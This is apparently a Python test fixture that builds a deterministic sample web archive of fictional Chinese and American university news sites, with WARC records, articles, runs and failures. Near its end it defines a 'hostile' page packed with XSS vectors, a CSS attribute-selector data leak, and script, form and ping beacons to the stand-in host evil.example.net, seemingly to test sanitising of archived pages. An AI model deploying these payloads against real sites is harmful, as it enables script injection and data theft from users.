"""A small archive to look at: three sites, some seventy articles, real records in a real WARC file. The same each
time."""

from __future__ import annotations

import json
import struct
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sqlite_utils import Database

from archive.article import Attachment
from archive.capture import Capture, Exchange, Kind
from archive.instants import iso
from archive.search.index import ArticleIndex
from archive.store import schema
from archive.store.identifiers import fill
from archive.warc.writer import WarcWriter

NEWS = "https://news.example.edu.cn"
TODAY = "https://today.example.edu"
OLD = "http://old.example.ac.cn"
HOSTILE = f"{TODAY}/hostile/page.html"
ADMISSION = f"{NEWS}/info/1042/3001.htm"

_SITES = [
    {
        "id": "example_news",
        "name": "示例大学新闻网",
        "college": "示例大学",
        "homepage": f"{NEWS}/",
        "country": "CN",
        "language": "zh",
        "family": "vsb",
    },
    {
        "id": "example_today",
        "name": "Example State Today",
        "college": "Example State University",
        "homepage": f"{TODAY}/",
        "country": "US",
        "language": "en",
        "family": "wordpress",
        "wikidata": "Q42",
        "config": '{"ror": "https://ror.org/03vek6s52"}',
    },
    {
        "id": "old_college",
        "name": "旧学院要闻",
        "college": "旧学院",
        "homepage": f"{OLD}/",
        "country": "CN",
        "language": "zh",
        "family": "static",
    },
]
_ZH = [
    "研究生招生复试工作顺利举行",
    "图书馆延长开放时间",
    "第3届机器人大赛开幕",
    "学校与MIT签署合作协议",
    "5G网络实验室揭牌",
    "运动会圆满落幕",
    "新生军训动员大会召开",
    "奖学金评审结果公示",
    "校友返校日活动纪实",
    "食堂推出节气菜单",
]
_EN = [
    "Students build a solar boat",
    "Library opens late for finals",
    "New dean of engineering named",
    "A century of campus weather",
    "Choir tours three cities",
    "Grant funds river research",
]


class Sample:
    """Builds the archive in a folder; `build` says how its pages came to be."""

    def __init__(self, folder: Path) -> None:
        (folder / "warc").mkdir(parents=True)
        self.folder, self.database = folder, folder / "news.db"
        self.db = Database(self.database)
        self.db.enable_wal()
        schema.steps.apply(self.db)
        self._warc = WarcWriter(
            folder / "warc",
            prefix="sample",
            info={"software": "campuswarc tests"},
            clock=lambda: datetime(2024, 6, 1, tzinfo=UTC),
        )
        self._index = ArticleIndex(self.db)
        self._captures: dict[str, int] = {}
        self._run = 0

    def build(self) -> Sample:
        """Everything, and the files closed."""
        return self.build_with(lambda sample: None)

    def build_with(self, more: Callable[[Sample], None]) -> Sample:
        """Everything and more, and the files closed."""
        with self.db.atomic():
            self._sites()
            self._runs()
            self._pictures()
            self._admission()
            self._many()
            self._oddities()
            more(self)
            self._index.rebuild()
            fill(self.db)
        self._warc.commit()
        self._warc.close()
        return self

    def fetch(
        self,
        url: str,
        body: bytes,
        *,
        at: str,
        mime: str = "text/html; charset=utf-8",
        site: str = "example_news",
        status: int = 200,
        kind: Kind = "article",
        headers: str = "",
    ) -> int:
        """Record one exchange; the id of its capture."""
        head = (
            f"HTTP/1.1 {status} {'OK' if status < 300 else 'Found' if status < 400 else 'Not Found'}\r\nContent-Type:"
            f" {mime}\r\nContent-Length: {len(body)}\r\n{headers}\r\n"
        )
        host = url.split("/")[2]
        capture: Capture = self._warc.write(
            Exchange(
                url=url,
                site=site,
                kind=kind,
                fetched_at=datetime.fromisoformat(at),
                status=status,
                request_head=f"GET /{url.split('/', 3)[3]} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(),
                response_head=head.encode(),
                body=body,
            )
        )
        row: dict[str, Any] = {name: getattr(capture, name) for name in capture.__dataclass_fields__}
        self._captures[url] = int(self.db["captures"].insert(row | {"run": self._run}).last_pk)  # type: ignore[union-attr]
        return self._captures[url]

    def article(
        self,
        url: str,
        title: str,
        versions: list[tuple[str, str, int]],
        *,
        site: str,
        published: str | None,
        language: str = "zh",
        attachments: tuple[Attachment, ...] = (),
        **more: Any,
    ) -> int:
        """Rows of an article; each version is (text, HTML, capture)."""
        text, html, _ = versions[-1]
        times = [
            self.db.execute("select fetched_at from captures where id = ?", [capture]).fetchone()[0]
            for _, _, capture in versions
        ]
        row = {
            "url": url,
            "site": site,
            "kind": "article",
            "title": title,
            "subtitle": "",
            "published": published,
            "published_precision": "day",
            "byline": "",
            "authors": [],
            "editors": [],
            "photographers": [],
            "source": "",
            "section": "",
            "language": language,
            "body": text,
            "body_html": html,
            "word_count": len(text),
            "first_seen": times[0],
            "last_seen": times[-1],
            "confidence": 0.93,
            **more,
        }
        for name in ("authors", "editors", "photographers"):
            row[name] = json.dumps(row[name], ensure_ascii=False)
        id_ = int(self.db["articles"].insert(row).last_pk)  # type: ignore[union-attr]
        for n, (text, html, capture) in enumerate(versions, 1):
            version = (
                self.db["version_rows"]
                .insert(  # type: ignore[union-attr]
                    {
                        "article": id_,
                        "n": n,
                        "capture": capture,
                        "content_digest": f"sha256:{zlib.crc32(text.encode()):08x}",
                        "title": title,
                        "body": text,
                        "body_html": html,
                        "extractor": "campuswarc/1",
                        "seen_from": times[n - 1],
                        "seen_to": times[n - 1],
                    }
                )
                .last_pk
            )
            self.db.execute("update articles set current_version = ? where id = ?", [version, id_])
        for n, document in enumerate(attachments):
            capture_id = self._captures.get(document.url)
            self.db["attachments"].insert(  # type: ignore[union-attr]
                {
                    "article": id_,
                    "n": n,
                    "url": document.url,
                    "filename": document.filename,
                    "embedded": 0,
                    "capture": capture_id,
                    "mime": "application/pdf" if capture_id else None,
                    "size": 1234 if capture_id else None,
                    "text": "招生计划表 学院 人数" if capture_id else None,
                }
            )
        return id_

    def _sites(self) -> None:
        for site in _SITES:
            self.db["sites"].insert(
                site | {"state": "active", "first_seen": "2019-01-01T00:00:00Z", "timezone": "Asia/Shanghai"}
            )  # type: ignore[union-attr]
        listing = {
            "interval": 3600,
            "last_tried": "2024-06-01T02:00:00Z",
            "last_ok": "2024-06-01T02:00:00Z",
            "last_new": "2024-05-28T02:00:00Z",
            "unfollowed": None,
        }
        self.db["listings"].insert_all(  # type: ignore[union-attr]
            [
                {
                    "url": f"{NEWS}/xyxw.htm",
                    "site": "example_news",
                    "section": "学院新闻",
                    "state": "ok",
                    "reason": None,
                    "total_claimed": 48,
                }
                | listing,
                {
                    "url": f"{NEWS}/zsxx.htm",
                    "site": "example_news",
                    "section": "招生信息",
                    "state": "ok",
                    "reason": None,
                    "total_claimed": 12,
                }
                | listing,
                {
                    "url": f"{TODAY}/",
                    "site": "example_today",
                    "section": "News",
                    "state": "ok",
                    "reason": None,
                    "total_claimed": None,
                }
                | listing,
                {
                    "url": f"{OLD}/list.html",
                    "site": "old_college",
                    "section": "要闻",
                    "state": "blocked",
                    "reason": "blocked:riversec",
                    "total_claimed": None,
                }
                | listing
                | {"last_ok": "2024-03-01T02:00:00Z", "unfollowed": "page 2 is opened by a script"},
            ]
        )

    def _runs(self) -> None:
        begin = datetime(2024, 5, 20, 2, tzinfo=UTC)
        for n in range(1, 13):
            at = begin + timedelta(days=n)
            self.db["runs"].insert(  # type: ignore[union-attr]
                {
                    "id": n,
                    "begun": iso(at),
                    "ended": iso(at + timedelta(minutes=9)),
                    "reason": "finished",
                    "exit": int(n in (5, 6)),
                    "counts": json.dumps({"example_news": {"pages": 6 + n, "new": n}, "old_college": {"pages": 1}}),
                }
            )
            self._run = n
            for serial in range(3 + n % 5):
                self.fetch(
                    f"{NEWS}/run/{n}/{serial}.htm",
                    b"<p>listing</p>",
                    at=iso(at + timedelta(seconds=serial)),
                    kind="listing",
                    status=404 if n in (5, 6) and serial else 200,
                )
        self.db["failures"].insert_all(  # type: ignore[union-attr]
            [
                {
                    "url": f"{OLD}/list.html",
                    "site": "old_college",
                    "run": 5,
                    "kind": "blocked:riversec",
                    "detail": "412 with $_ts",
                    "at": "2024-05-25T02:00:05Z",
                },
                {
                    "url": f"{NEWS}/info/1042/9.htm",
                    "site": "example_news",
                    "run": 6,
                    "kind": "http_500",
                    "detail": "500 Internal Server Error",
                    "at": "2024-05-26T02:00:05Z",
                },
            ]
        )

    def _pictures(self) -> None:
        at = "2023-12-13T02:00:00Z"
        self.fetch(
            f"{NEWS}/images/gate.png", picture(320, 180, (140, 28, 19)), at=at, mime="image/png", kind="requisite"
        )
        self.fetch(
            f"{NEWS}/css/site.css",
            b'@import url("colours.css"); body{font-family:serif;max-width:50em;margin:2em auto} h1{border-bottom:2px'
            b" solid} .top{background:url(../images/gate.png);height:60px}",
            at=at,
            mime="text/css",
            kind="requisite",
        )
        self.fetch(
            f"{NEWS}/css/colours.css",
            b"h1{color:rgb(10, 60, 120)} body{background:rgb(250, 250, 240)}",
            at=at,
            mime="text/css",
            kind="requisite",
        )
        self.fetch(
            f"{NEWS}/files/plan.pdf", b"%PDF-1.4\n% a plan\n%%EOF\n", at=at, mime="application/pdf", kind="attachment"
        )

    def _admission(self) -> None:
        texts = [
            "示例大学2024年计划招收研究生1200人，网上报名于12月20日开始。\n\n请考生登录招生网查询。",
            "示例大学2024年计划招收研究生1350人，网上报名于12月22日开始。\n\n请考生登录招生网查询。",
            (
                "示例大学2024年计划招收研究生1350人，网上报名于12月22日开始，1月5日截止。"
                "\n\n请考生登录研究生招生网查询。联系电话：010-12345678。"
            ),
        ]
        versions = []
        for n, text in enumerate(texts):
            paragraphs = "".join(f"<p>{paragraph}</p>" for paragraph in text.split("\n\n"))
            page = (
                '<!doctype html><html lang="zh"><head><meta charset="utf-8"><title>招生简章</title><link'
                ' rel="stylesheet" href="/css/site.css"><script src="/js/app.js"></script></head><body><div'
                f' class="top"></div><h1>2024年研究生招生简章</h1>{paragraphs}<p><img src="/images/gate.png"'
                ' alt="校门"><img src="/images/lost.png" alt="失去的图"></p><p><a'
                ' href="/info/1042/3002.htm">图书馆</a> <a href="/files/plan.pdf">计划</a></p></body></html>'
            )
            at = ("2023-12-13T02:10:00Z", "2023-12-18T02:10:00Z", "2024-01-02T02:10:00Z")[n]
            capture = self.fetch(ADMISSION, page.encode(), at=at)
            html = (
                f'{paragraphs}<figure><img src="{NEWS}/images/gate.png"'
                ' alt="校门"><figcaption>学校南门</figcaption></figure><p><a'
                f' href="{NEWS}/info/1042/3002.htm">图书馆延长开放时间</a></p>'
            )
            versions.append((text, html, capture))
        self.article(
            ADMISSION,
            "2024年研究生招生简章",
            versions,
            site="example_news",
            published="2023-12-13T01:12:00Z",
            published_precision="minute",
            authors=["张三", "李四"],
            editors=["王五"],
            source="研究生院",
            section="招生信息",
            byline="文/张三 李四",
            attachments=(
                Attachment(url=f"{NEWS}/files/plan.pdf", filename="招生计划表.pdf"),
                Attachment(url=f"{NEWS}/files/lost.doc", filename="报名表.doc"),
            ),
        )

    def _many(self) -> None:
        day = datetime(2019, 3, 4, 1, tzinfo=UTC)
        for n in range(48):
            title, day = (
                _ZH[n % len(_ZH)] if n else "图书馆延长开放时间",
                day + timedelta(days=3 + n * 37 % 61 + (70 if n % 11 == 7 else 0)),
            )
            text = (
                f"{title}。{day:%Y年%m月%d日}，师生代表参加了活动，现场气氛热烈。\n\n负责人表示，"
                "今后将继续做好相关工作，欢迎广大师生提出意见。"
            )
            url = f"{NEWS}/info/1042/{3002 + n}.htm"
            html = "".join(f"<p>{paragraph}</p>" for paragraph in text.split("\n\n"))
            capture = self.fetch(
                url,
                f'<!doctype html><meta charset="utf-8"><title>{title}</title><h1>{title}</h1>{html}'.encode(),
                at=iso(day + timedelta(days=1)),
            )
            self.article(
                url,
                title,
                [(text, html, capture)],
                site="example_news",
                published=f"{day:%Y-%m-%d}",
                section="学院新闻",
                source="宣传部",
                authors=["赵六"] if n % 3 else [],
            )
        day = datetime(2021, 9, 1, 12, tzinfo=UTC)
        for n in range(24):
            title = _EN[n % len(_EN)] + (f", part {n // len(_EN) + 1}" if n >= len(_EN) else "")
            day += timedelta(days=2 + n * 29 % 43)
            text = (
                f"{title}. It was a clear morning on {day:%B %d}, and the whole campus had come to see.\n\n“We did not"
                " expect this,” said a student of the college of engineering."
            )
            url = f"{TODAY}/{day:%Y/%m}/story-{n}/"
            html = "".join(f"<p>{paragraph}</p>" for paragraph in text.split("\n\n"))
            capture = self.fetch(
                url,
                f"<!doctype html><title>{title}</title><h1>{title}</h1>{html}".encode(),
                at=iso(day + timedelta(days=1)),
                site="example_today",
            )
            self.article(
                url,
                title,
                [(text, html, capture)],
                site="example_today",
                published=f"{day:%Y-%m-%d}",
                language="en",
                section="Campus / Life",
                authors=["Jane Q. Doe", "Richard Roe"],
            )

    def _oddities(self) -> None:
        text = "旧学院的网页使用GBK编码，图书馆延长开放时间，欢迎同学们前来自习。"
        capture = self.fetch(
            f"{OLD}/a/1.html",
            f"<html><head><title>旧闻</title></head><body><h1>旧闻</h1><p>{text}</p></body></html>".encode("gbk"),
            at="2022-02-02T02:02:02Z",
            mime="text/html; charset=gb2312",
            site="old_college",
        )
        near = self.article(
            f"{OLD}/a/1.html",
            "旧闻：图书馆延长开放",
            [(text, "", capture)],
            site="old_college",
            published="2022-02-01",
            state="gone",
        )
        self.db.execute("update articles set near_duplicate_of = 2 where id = ?", [near])
        self.fetch(f"{OLD}/a/1.html", b"gone", at="2024-04-02T02:02:02Z", status=404, site="old_college")
        self.fetch(f"{NEWS}/go", b"", at="2023-12-14T00:00:00Z", status=302, headers=f"Location: {ADMISSION}\r\n")
        self.fetch(HOSTILE, HOSTILE_PAGE.encode(), at="2024-02-02T00:00:00Z", site="example_today")
        capture = self._captures[HOSTILE]
        self.article(
            HOSTILE,
            "A page that would like to run",
            [("Some hostile words.", HOSTILE_STORY, capture)],
            site="example_today",
            published="2024-02-01",
            language="en",
        )


EVIL = "http://evil.example.net"
HOSTILE_STORY = (
    f'<p onclick="alert(1)">Some hostile words.<script>fetch("{EVIL}/s")</script><img src="{EVIL}/i.png"'
    f' onerror="alert(2)"><a href="javascript:alert(3)">x</a><iframe src="{EVIL}/f"></iframe></p>'
)
HOSTILE_PAGE = f"""<!doctype html><html><head><title>hostile</title><base href="{EVIL}/">
<meta http-equiv="refresh" content="0; url={EVIL}/refresh"><meta http-equiv="Content-Security-Policy"
  content="default-src * 'unsafe-inline' data:">
<script>document.title = "ran"; fetch("{EVIL}/fetch"); navigator.serviceWorker &&
  navigator.serviceWorker.register("/sw.js")</script>
<script src="{EVIL}/script.js"></script><link rel="stylesheet" href="{EVIL}/style.css"><link rel="preload" as="image"
  href="{EVIL}/preload.png">
<link rel="prefetch" href="{EVIL}/prefetch"><link rel="dns-prefetch" href="{EVIL}"><link rel="manifest"
  href="{EVIL}/manifest">
<style>@import "{EVIL}/import.css"; body {{ background: url({EVIL}/exfiltrate?a) }} input[value^=a] {{ background:
  url("{EVIL}/leak") }}
@font-face {{ font-family: f; src: url({EVIL}/font.woff2) }} h1 {{ font-family: f }}</style></head>
<body onload="document.title='ran'"><h1 id="words">Hostile</h1><input value="abc">
<img src="{EVIL}/picture.png" srcset="{EVIL}/two.png 2x" onerror="document.title='ran'"><img src=x
  onerror="document.title='ran'">
<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"><script>document.title='ran'</script><image
  href="{EVIL}/svg.png"/><use href="{EVIL}/use.svg#a"/></svg>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><object
  data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<form action="{EVIL}/form" method="post"><input name="a"><button id="send">send</button></form><a id="js"
  href="javascript:document.title='ran'">script link</a>
<a id="ping" href="{NEWS}/go" ping="{EVIL}/ping">ping</a><video src="{EVIL}/video.mp4" poster="{EVIL}/poster.png"
  autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>
<p style="background:url({EVIL}/inline)">styled</p><math><mtext><table><mglyph><style><img src=x
  onerror="document.title='ran'"></style></mglyph></table></mtext></math>
<template><img src="{EVIL}/template.png"></template><noscript><img src="{EVIL}/noscript.png"></noscript></body>
</html>"""


def picture(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
    """A PNG of one colour with a paler band, made by hand."""
    pale = tuple((255 + part) // 2 for part in colour)
    rows = b"".join(b"\0" + bytes(colour if y % 60 < 30 else pale) * width for y in range(height))

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )
